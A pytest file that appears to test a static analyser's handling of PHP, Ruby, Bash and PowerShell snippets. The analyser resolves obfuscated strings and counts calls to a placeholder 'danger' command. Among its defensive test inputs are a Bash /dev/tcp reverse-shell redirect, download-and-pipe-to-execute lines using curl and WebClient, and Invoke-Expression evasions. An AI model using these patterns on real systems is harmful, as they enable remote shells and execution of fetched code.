"""What is known of an expression in the languages of scripts: each row is code, and what `probe` is handed in it, or how
often `danger` is called, by whatever way. Read through the one door of the engine, with rules that only report.
"""

import pytest

from gifthorse.engine.inspect import inspect
from gifthorse.model.finding import Confidence, Severity
from gifthorse.model.rule import Catalogue, Match, MatchKind, Rule
from gifthorse.store.catalogue import load_catalogue

NAMES = {"php": "a.php", "ruby": "a.rb", "bash": "a.sh", "powershell": "a.ps1"}


def report_rule(name: str, callees: tuple[str, ...], predicate: str, message: str) -> Rule:
    """A rule that says what it sees of the first argument."""
    match = Match(MatchKind.CALL, tuple(NAMES), callees, {"0": (predicate,)} if predicate else {})
    return Rule(name, "test", (1,), Severity.HIGH, Confidence.HIGH, name, message, "", "", (), (match,), ())


RULES = (
    report_rule("value", ("probe",), "present", "{value}"),
    report_rule("built", ("probe",), "built", ""),
    report_rule("danger", ("danger", "**.danger.run"), "", "{callee}"),
)


@pytest.fixture(scope="module")
def watched() -> Catalogue:
    shipped = load_catalogue()
    return Catalogue({rule.id: rule for rule in RULES}, shipped.languages, "values of scripts")


def report(language: str, code: str, catalogue: Catalogue):
    head = "<?php " if language == "php" and not code.startswith("<") else ""
    found = inspect((head + code).encode(), NAMES[language], None, catalogue).report
    assert not found.incomplete
    return found.findings


PHP = [
    ("probe(!1);", "false"),
    ("probe('M' . \"D5\");", "'MD5'"),
    ('probe("a\\x41\\n");', "'aA\\n'"),
    ("$d = 'd5'; probe(\"m$d {$d}\");", "'md5 d5'"),
    ("probe(<<<EOT\nhi $x there\nEOT);", "a computed value built"),
    ("probe(<<<'X'\nraw $x\nX);", "'raw $x'"),
    ("probe(base64_decode('bWQ1'));", "'md5'"),
    ("probe(hex2bin('6d6435'));", "'md5'"),
    ("probe(str_rot13('zq5'));", "'md5'"),
    ("probe(implode('', ['m', 'd5']));", "'md5'"),
    ("probe(sprintf('%s%d', 'md', 5));", "'md5'"),
    ("probe(chr(109) . 'd5');", "'md5'"),
    ("probe(strrev('5dm'));", "'md5'"),
    ('probe("SELECT " . $name);', "a computed value built"),
    ('probe("SELECT $name");', "a computed value built"),
    ("probe(\"SELECT {$o->name['x']}\");", "a computed value built"),
    ("$a = ['a' => ['b' => false]]; probe($a['a']['b']);", "false"),
    ("[$a, [$b]] = [1, [false]]; probe($b);", "false"),
    ("$o = new stdClass; $o->x = false; probe($o->x);", "false"),
    (
        "class C { public $off = false; const K = 'k'; static $s = 's'; function get() { return $this->off; } static function st($x) { return !$x; } }\nprobe((new C)->get()); probe(C::K); probe(C::$s); probe(C::st(1));",
        "false | 'k' | 's' | false",
    ),
    (
        "class D { private $v; function __construct($v) { $this->v = $v; } function g() { return $this->v; } } probe((new D(7))->g());",
        "7",
    ),
    ("trait T { function t() { return 't'; } } class E2 { use T; } probe((new E2)->t());", "'t'"),
    ("function off($x) { return !$x; } probe(OFF(true));", "false"),
    ("$f = fn($x) => !$x; probe($f(true));", "false"),
    ("$y = 3; $f = function($x) use ($y) { return $x + $y; }; probe($f(1));", "4"),
    ("$f = 'off2'; function off2($x) { return !$x; } probe($f(1));", "false"),
    ("probe(call_user_func('strrev', 'abc'));", "'cba'"),
    ("probe(call_user_func_array('strrev', ['abc']));", "'cba'"),
    ("probe(array_map('strrev', ['abc'])[0]);", "'cba'"),
    ("define('Q', 'qq'); probe(Q);", "'qq'"),
    ("const Z = 1; probe(Z);", "1"),
    ("$n = 'v'; $v = 'deep'; probe($$n); probe(${'v'});", "'deep' | 'deep'"),
    ("$g = 1; probe($GLOBALS['g']);", "1"),
    ("probe(match(true) { default => 'a' });", "'a'"),
    ("probe($x ?: 'b');", "a computed value"),
    ("probe($x ?? 'b');", "a computed value"),
    ("probe(1 ? 'y' : 'n');", "'y'"),
    ("$s = 'a'; $s .= 'b'; probe($s);", "'ab'"),
    ("$s = 'a'; $s .= $_GET['x']; probe($s);", "a computed value built"),
    ("function f(...$r) { return $r[1]; } probe(f(...[1, 2]));", "2"),
    ("function f2($a, $b = 9) { return $b; } probe(f2(b: 3, a: 1)); probe(f2(1));", "3 | 9"),
    ("foreach (['a', 'b'] as $k => $v) { probe($v); probe($k); }", "'a' | 0"),
    ("<p><?= probe('x') ?></p>", "'x'"),
    ("if ($a) { $x = 1; } else { $x = 2; } probe($x);", "a computed value"),
    ("try { $x = 1; } catch (E $e) { $x = 2; } finally { probe($x); }", "a computed value"),
    ("switch ($a) { case 1: $x = 'a'; break; default: $x = 'b'; } probe($x);", "a computed value"),
    ('probe((int)"12"); probe((string)5); probe(intval("7"));', "12 | '5' | 7"),
    ("probe(pack('H*', '6d6435'));", "'md5'"),
    (
        "probe(strtr('abc', 'abc', 'xyz')); probe(substr('hello', 1, 3)); probe(substr('hello', -3)); probe(explode(',', 'a,b')[1]); probe(str_replace('a', 'b', 'aa'));",
        "'xyz' | 'ell' | 'llo' | 'b' | 'bb'",
    ),
    ("enum S: string { case H = 'h'; } probe(S::H);", "'h'"),
    ("probe(PHP_EOL); probe(__DIR__ . '/x');", "PHP_EOL | a computed value built"),
    ("static function() {}; $x = new class { function r() { return 5; } }; probe($x->r());", "5"),
    ("probe(gzinflate(base64_decode('y00BAA==')));", "a computed value"),
    ("trait T { function t() { return 't'; } } class E2 { use T; } probe((new E2)->t());", "'t'"),
    ("function f2($a, $b = 9) { return $b; } probe(f2(b: 3, a: 1)); probe(f2(1));", "3 | 9"),
    ("$g = 1; probe($GLOBALS['g']);", "1"),
    ("probe(str_replace('a', 'b', 'aa'));", "'bb'"),
    ("function g($x) { if (!$x) { return 'a'; } return 'b'; } probe(g(0)); probe(g(1));", "'a' | 'b'"),
    ("probe(`ls`);", "`()"),
    ("$x = ['a', ...['b']]; probe($x[1]);", "'b'"),
    ("for ($i = 0; $i < 3; $i++) { $x = $i; } probe($x); while (1) { break; }", "0"),
]
RUBY = [
    ("probe(!1)\n", "false"),
    ("probe('M' + \"D5\".downcase)\n", "'Md5'"),
    ("d = 'd5'; probe(\"m#{d}\")\n", "'md5'"),
    ('probe("SELECT #{name}")\n', "a computed value built"),
    ("probe(<<~EOS)\n  hi #{x}\nEOS\n", "a computed value built"),
    ("def q\n  s = <<~SQL\n    SELECT #{x}\n  SQL\n  probe(s)\nend\n", "a computed value built"),
    ('probe(:sym); probe(:"a b"); probe(%w[a b][1]); probe(%q(x)); probe(?c)\n', "'sym' | 'a b' | 'b' | 'x' | 'c'"),
    ("probe(['m', 'd5'].join); probe(%w[m d5].join('-'))\n", "'md5' | 'm-d5'"),
    ("probe([109].map(&:chr).join)\n", "'m'"),
    (
        "probe([109, 100].pack('c*')); probe(['bWQ1'].pack('m')); probe('bWQ1'.unpack1('m')); probe('bWQ1'.unpack('m').first); probe(['6d'].pack('H*'))\n",
        "'md' | 'YldRMQ==\\n' | 'md5' | 'md5' | 'm'",
    ),
    ("require 'base64'; probe(Base64.decode64('bWQ1'))\n", "'md5'"),
    ("probe('5dm'.reverse); probe('zq5'.tr('a-z', 'n-za-m'))\n", "'md5' | 'md5'"),
    ("probe(format('%s%d', 'md', 5)); probe('%s5' % 'md')\n", "'md5' | 'md5'"),
    ("a = { a: { b: false } }; probe(a[:a][:b])\n", "false"),
    ("h = {}; h['k'] = false; probe(h['k']); probe(h.fetch('k'))\n", "false | false"),
    ("a, (b, *c) = 1, [2, 3, 4]; probe(c[1])\n", "4"),
    (
        "class C\n  K = 'k'\n  attr_reader :v\n  def initialize(v) = @v = v\n  def get\n    @v\n  end\n  def self.st(x)\n    !x\n  end\nend\nprobe(C.new(7).get); probe(C.new(8).v); probe(C::K); probe(C.st(1))\n",
        "7 | 8 | 'k' | false",
    ),
    ("module M; def t; 't'; end; end\nclass D; include M; end\nprobe(D.new.t)\n", "'t'"),
    ("def off(x)\n  return 'a' if x\n  'b'\nend\nprobe(off(true)); probe(off(false)); \n", "'a' | 'b'"),
    ("def name; 'n'; end\nprobe(name)\n", "'n'"),
    ("f = ->(x) { !x }; probe(f.call(true)); probe(f.(true))\n", "false | false"),
    ("f = lambda { |x| !x }; probe(f.call(true)); g = proc { |x| x }; probe(g.call(5)); \n", "false | 5"),
    ("def y2; yield 3; end\ny2 { |v| probe(v) }\n", "v"),
    ("[1, 2].each { |v| probe(v) }\n", "v"),
    ("probe([1].map { |x| x + 1 }[0]); probe([1].map { _1 + 1 }.first)\n", "2 | 2"),
    ("s = 'a'; s << 'b'; s += 'c'; probe(s)\n", "'abc'"),
    ("l = []; l << 'x'; probe(l[0])\n", "'x'"),
    (
        "probe(send(:format, '%s', 'x')); probe('abc'.send(:reverse)); probe('abc'.public_send('rev' + 'erse'))\n",
        "'x' | 'cba' | 'cba'",
    ),
    ("x = if a then 1 else 2 end; probe(x)\n", "a computed value"),
    ("x = case a when 1 then 'p' else 'p' end; probe(x)\n", "'p'"),
    ("probe(eval('1 + 1'))\n", "2"),
    ("x = begin; 1; rescue; 2; end; probe(x)\n", "a computed value"),
    ("unless a then x = 1 else x = 1 end; probe(x)\n", "1"),
    (
        "probe(x || 'd'); @iv ||= 3; probe(@iv); $g = 4; probe($g); X = 9; probe(X); \n",
        "a computed value | a computed value | 4 | 9",
    ),
    ("def kw(a:, b: 2, **o); b; end\nprobe(kw(a: 1)); probe(kw(a: 1, b: 3))\n", "2 | 3"),
    ("probe(1.zero?); probe([].empty?); probe('x'.freeze)\n", "false | true | 'x'"),
    ("instance_variable_set(:@z, 3); probe(@z); \n", "this.z"),
    ('puts "a" "b"; probe("a" "b")\n', "'ab'"),
    ("probe 'x' if true\nprobe 'y' unless false\n", "'x' | 'y'"),
]
BASH = [
    ("probe 'x'; probe \"a b\"; probe x\n", "'x' | 'a b' | 'x'"),
    ('X=d5; probe "m$X" ; probe m${X}; probe "m${X:-q}"\n', "'md5' | 'md5' | 'md5'"),
    ("probe $(echo Y3VybA== | base64 -d)\n", "'curl'"),
    (
        'probe "$(echo 6d6435 | xxd -r -p)"; probe "$(printf \'%s%s\' m d5)"; probe "$(printf \'\\x6dd5\')"\n',
        "'md5' | 'md5' | 'md5'",
    ),
    ("probe $(echo hello | rev); probe $(echo zq5 | tr a-z n-za-m)\n", "'olleh' | 'md5'"),
    ('f() { probe "$1"; }\nf abc\n', "a computed value built"),
    ('f() { echo "$1"; }\nprobe $(f abc)\n', "'abc'"),
    ('arr=(a b); probe ${arr[1]}; probe "${arr[@]}"\n', "'b' | 'a'"),
    ("n=V; V=deep; probe ${!n}\n", "'deep'"),
    ("for i in a b; do probe $i; done\n", "'a'"),
    ("if [ a = b ]; then probe 1; elif true; then probe 2; else probe 3; fi\n", "'1' | '2' | '3'"),
    ("case $x in a) probe 1;; *) probe 2;; esac\n", "'1' | '2'"),
    ("probe $((1+2)); sudo -u root danger 1; env A=1 danger 2; command danger 3\n", "3"),
    ("local y=3; probe $y; export Z=4; probe $Z; Q+=x; probe ${#x}; probe ${x%%.*}\n", "'3' | '4' | $x | $x"),
    ("probe $'a\\x41'\n", "'aA'"),
    (
        'date=$(date); date +%s; probe "$1"; a && danger 1 || danger 2; ! danger 3; (danger 4); { danger 5; }\n',
        "a computed value built",
    ),
]
POWERSHELL = [
    ("probe 'x'; probe \"a`nb\"; probe x\n", "'x' | 'a\\nb' | 'x'"),
    ('$d = \'d5\'; probe "m$d"; probe "m$($d)"; probe "m${d}"\n', "'md5' | 'md5' | 'md5'"),
    ('$c = @"\nhi $x\n"@\nprobe $c\n', "a computed value built"),
    ("$c = @'\nraw $x\n'@\nprobe $c\n", "'raw $x'"),
    (
        "probe ('M' + 'D5'.ToLower()); probe (-join ('m','d5')); probe ('m','d5' -join ''); probe (\"{0}{1}\" -f 'm','d5'); probe ([string]::Join('', @('m','d5')))\n",
        "'Md5' | 'md5' | 'md5' | 'md5' | 'md5'",
    ),
    (
        "probe ([char]109 + 'd5'); probe ([char]0x6d); probe ('5dm'[-1..-3] -join '')\n",
        "'md5' | 'm' | a computed value",
    ),
    (
        "probe ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bWQ1'))); probe ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('bWQ1')))\n",
        "'md5' | 'md5'",
    ),
    (
        "probe ('axb' -replace 'x','y'); probe ('a,b' -split ',')[1]; probe 'abc'.Substring(1,1)\n",
        "'ayb' | 'b' | .substring",
    ),
    ("$h = @{ a = @{ b = $false } }; probe $h.a.b; probe $h['a']['b']\n", "$false | $false"),
    ("$l = 1,2,3; probe $l[1]; $a, $b = 1, 2; probe $b\n", "2 | 2"),
    ("function off($x) { return !$x }\nprobe (off $true); probe (Off -x $true)\n", "$false | $false"),
    ("$f = { param($x) $x }; probe (& $f 5); probe $f.Invoke(6)\n", "5 | .invoke"),
    ("1,2 | ForEach-Object { probe $_ }\n", "$_"),
    (
        "class C { [int]$p = 3; C([int]$z) { $this.p = $z } [int] get() { return $this.p } static [int] s($k) { return $k } }\nprobe ([C]::new(7).get()); probe ([C]::s(4))\n",
        "7 | 4",
    ),
    ("if ($a -eq 1) { $x = 1 } else { $x = 1 }; probe $x\n", "1"),
    ("try { probe 1 } catch { probe 2 } finally { probe 3 }\n", "1 | 2 | 3"),
    ("foreach ($i in 1,2) { probe $i }\n", "1"),
    ("$s = 'a'; $s += 'b'; probe $s; probe $env:PATH; probe $args[0]\n", "'ab' | $env:path | $args.0"),
    ("$t = [Type]::GetType('X'); probe $t.Length\n", "type.gettype().length"),
    ("probe $true; probe (1 -gt 2); probe $null\n", "$true | $false | $null"),
]
CALLS = [
    ("php", "eval('danger(1);');", 1),
    ("php", "$f = 'dan' . 'ger'; $f(1);", 1),
    ("php", "use Foo\\danger as D; D::run(1);", 1),
    ("php", "\\Foo\\danger::run(1);", 1),
    ("php", "$m = 'run'; $danger = new danger; $danger->$m(1);", 1),
    ("php", "call_user_func([$x, 'danger'], 1); call_user_func('danger', 1);", 1),
    ("php", "$f = [new danger, 'run']; $f(1);", 1),
    ("php", "danger(1); Danger(2);", 2),
    ("php", "array_map('danger', [1]);", 1),
    ("php", "$c = 'danger'; $o = new $c; $o->run(1);", 1),
    ("ruby", "Foo::Danger.run(1); Foo.danger.run(2); Kernel.danger(1); danger 1; danger(1)\n", 3),
    ("ruby", "method(:danger).call(1); send(:danger, 1); Kernel.send('dan' + 'ger', 1); self.send(:danger, 1)\n", 3),
    ("ruby", "'Danger'.constantize.danger.run(1); eval(\"danger(1)\"); \n", 1),
    ("ruby", "[1].each(&method(:danger))\n", 1),
    ("ruby", "`ls #{x}`; danger `ls`\n", 1),
    ("bash", "cu''rl x; dan\"ger\" 1; d\\anger 2; $(echo danger) 3; x=danger; $x 1\n", 4),
    ("bash", "danger -k --insecure --proto=x | danger\n", 2),
    ("bash", "curl x | danger -s\n", 1),
    ("bash", 'danger <<< "$x"; cat <<EOF | danger\nhi\nEOF\n', 1),
    ("bash", 'eval "danger 1"; eval danger 2; bash -c \'danger 3\'; bash -c "danger $x"\n', 3),
    ("bash", "while read l; do danger $l; done < f\n", 1),
    ("bash", "probe $((1+2)); sudo -u root danger 1; env A=1 danger 2; command danger 3\n", 2),
    ("bash", "alias g=danger; g 1\n", 1),
    ("bash", "danger > /dev/tcp/1.2.3.4/5 0>&1\n", 1),
    (
        "bash",
        'date=$(date); date +%s; probe "$1"; a && danger 1 || danger 2; ! danger 3; (danger 4); { danger 5; }\n',
        5,
    ),
    (
        "powershell",
        "danger 1; Danger 2; & danger 3; & 'dan' + 'ger'; & ('dan' + 'ger') 4; $x = 'danger'; & $x 5; . $x 6\n",
        6,
    ),
    ("powershell", "iex \"danger 1\"; Invoke-Expression 'danger 2'; 'danger 3' | iex; iex -Command 'danger 4'\n", 4),
    ("powershell", "Set-Alias g danger; g 1; New-Alias -Name h -Value danger; h 2\n", 2),
    (
        "powershell",
        "(New-Object System.Net.WebClient).DownloadString('x') | danger; [Net.WebClient]::new().danger.run(1)\n",
        2,
    ),
    ("powershell", "(iwr x).Content | danger\n", 1),
    ("powershell", 'powershell -c "danger 1"; Invoke-Command -ScriptBlock { danger 2 }\n', 2),
    ("powershell", '$o.("dan" + "ger")(1); [Foo]::danger.run(1)\n', 1),
    ("powershell", "danger -SkipCertificateCheck -Uri x\n", 1),
]
ROWS = [(language, *row) for language in NAMES for row in globals()[language.upper()]]


@pytest.mark.parametrize(("language", "code", "expected"), ROWS)
def test_value(language, code, expected, watched):
    findings = report(language, code, watched)
    values = " | ".join(finding.message for finding in findings if finding.rule == "value")
    assert values + (" built" if any(finding.rule == "built" for finding in findings) else "") == expected


@pytest.mark.parametrize(("language", "code", "times"), CALLS)
def test_calls(language, code, times, watched):
    assert sum(finding.rule == "danger" for finding in report(language, code, watched)) == times


def test_code_that_nothing_leads_into(watched):
    """A text without `<?php` is code where it begins like code, and a page where it does not."""
    findings = inspect(b"$x = 'a';\nprobe($x);\n", "a.php", None, watched).report.findings
    assert [(finding.rule, finding.span.start) for finding in findings] == [("value", 10)]
    assert not inspect(b"<p>probe(1);</p>\n", "a.php", None, watched).report.findings
